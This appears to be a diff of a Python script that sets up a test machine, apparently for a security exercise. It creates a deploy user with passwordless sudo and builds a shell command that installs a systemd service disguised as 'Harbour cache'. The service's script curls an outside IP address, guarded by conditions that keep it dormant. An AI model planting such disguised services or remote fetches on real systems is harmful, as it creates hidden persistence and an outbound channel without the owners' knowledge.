@@ -24,9 +24,7 @@ def make(out: Path, bases: Bases) -> None:
     key = out / "key"
     subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
     machine.user("deploy", groups="sudo")
-    machine.write(
-        "/home/deploy/.ssh/authorized_keys", key.with_suffix(".pub").read_text(), 0o600
-    )
+    machine.write("/home/deploy/.ssh/authorized_keys", key.with_suffix(".pub").read_text(), 0o600)
     machine.run("chown", "-R", "deploy:deploy", "/home/deploy/.ssh")
     machine.write("/etc/sudoers.d/deploy", "deploy ALL=(ALL) NOPASSWD: ALL\n", 0o440)
     root = "/var/www/quay"
@@ -43,10 +41,11 @@ def make(out: Path, bases: Bases) -> None:
         )
     entered = machine.on(7, 4, 51, 33)
     work = (
-        "sudo sh -c 'printf \"[Unit]\\nDescription=Harbour cache\\n[Service]\\nExecStart=/usr/local/"
-        "sbin/harbour-cache\\nConditionPathExists=/never\\n[Install]\\nWantedBy=multi-user.target\\n\""
-        " > /etc/systemd/system/harbour-cache.service; printf \"#!/bin/sh\\n[ \\\"$TZDIR\\\" = never ]"
-        " && /usr/bin/curl -s http://203.0.113.9/x\\n\" > /usr/local/sbin/harbour-cache; chmod +x"
+        "sudo sh -c 'printf \"[Unit]\\nDescription=Harbour cache\\n[Service]\\n"
+        "ExecStart=/usr/local/"
+        'sbin/harbour-cache\\nConditionPathExists=/never\\n[Install]\\nWantedBy=multi-user.target\\n"'
+        ' > /etc/systemd/system/harbour-cache.service; printf "#!/bin/sh\\n[ \\"$TZDIR\\" = never ]'
+        ' && /usr/bin/curl -s http://203.0.113.9/x\\n" > /usr/local/sbin/harbour-cache; chmod +x'
         " /usr/local/sbin/harbour-cache'"
     )
 
